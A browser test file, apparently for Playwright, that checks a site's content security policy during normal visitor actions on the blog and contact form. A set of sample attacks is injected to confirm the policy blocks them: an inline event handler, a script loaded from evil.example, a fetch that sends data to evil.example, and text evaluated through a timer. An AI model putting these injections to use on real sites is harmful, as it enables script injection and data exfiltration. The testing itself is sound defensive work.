import { pages } from "../fixture/content";
import { browserPages, calm, hydrated } from "../support/browserPages";
import { button, fillIn, notice, receiver } from "../support/filledForm";
import { policyViolationsOn } from "../support/policyViolations";
import { follow, shown } from "../support/visitor";

const { newPage } = browserPages();

test("nothing that a visitor does violates the content security policy", async () => {
  const page = await newPage(calm);
  const refused = await policyViolationsOn(page);
  await page.goto("/");
  await hydrated(page);
  await page.locator("header summary", { hasText: "Blog" }).click();
  await page.locator(`header details a[href="${pages.guide}"]`).click();
  await shown(page, pages.guide);
  await follow(page, "/contact");
  await hydrated(page);
  await button(page).click();
  await page.getByText("Invalid email address").waitFor();
  await fillIn(page);
  await page.route(receiver, (route) => route.fulfill({ status: 500 }));
  await button(page).click();
  await notice(page).getByText("Error", { exact: true }).waitFor();
  await page.unroute(receiver);
  await button(page).click();
  await notice(page).getByText("Quote Request Submitted").waitFor();
  expect(refused).toEqual([]);
});

const attacks: [string, string | (() => void)][] = [
  [
    "an injected script",
    () => {
      const frame = document.createElement("div");
      frame.setAttribute("onclick", "document.title = 'taken'");
      document.body.append(frame);
      frame.click();
    },
  ],
  [
    "a script from another host",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.body.append(script);
    },
  ],
  ["words sent elsewhere", () => void fetch("https://evil.example/?words")],
  [
    "text that is evaluated",
    // The test's own code may evaluate text; a timer it leaves behind may not.
    "void setTimeout(() => new Function(`document.title = 'taken'`)())",
  ],
];

test.each(attacks)("the policy refuses %s", async (_what, attack) => {
  const page = await newPage(calm);
  const refused = await policyViolationsOn(page);
  await page.goto("/about");
  await hydrated(page);
  const refusal = page.waitForEvent("console", () => refused.length > 0);
  await page.evaluate(attack).catch(() => undefined);
  await refusal;
  expect(await page.title()).not.toBe("taken");
});
